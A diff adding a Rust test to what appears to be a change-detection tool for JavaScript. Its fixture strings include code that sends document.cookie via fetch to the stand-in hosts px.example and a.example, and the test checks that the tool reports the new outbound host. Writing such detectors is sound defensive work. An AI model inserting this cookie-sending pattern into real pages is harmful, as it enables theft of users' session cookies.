@@ -131,6 +131,16 @@ fn a_function_that_did_one_thing_before_is_said_to_do_the_other_newly() {
 }
 
 #[test]
+fn what_takes_the_place_of_as_many_uses_elsewhere_is_said_together_where_it_goes_to_a_new_host() {
+    let old = "function menu() { fetch('/menu') } function who() { keep(document.cookie) } menu(); who();";
+    let new = "function draw(a, b) { paint(a); fetch('https://px.example/', { body: document.cookie + b }) } draw();";
+    let findings = compare(Some(old.as_bytes()), new.as_bytes(), Limits::default(), &|_| None);
+    let [said] = findings.together.as_slice() else { panic!("{:?}", findings.together) };
+    assert!(said.newly.is_empty(), "{said:?}");
+    assert!(said.text().contains("sends or loads with fetch, to px.example"), "{}", said.text());
+}
+
+#[test]
 fn the_function_that_a_library_is_wrapped_in_is_changed_and_not_new() {
     let of = |more: &str| format!("(function () {{ show(1); {more} }})(); (() => {{ other(2) }})();");
     let new = of("fetch('https://a.example/', { body: document.cookie });");
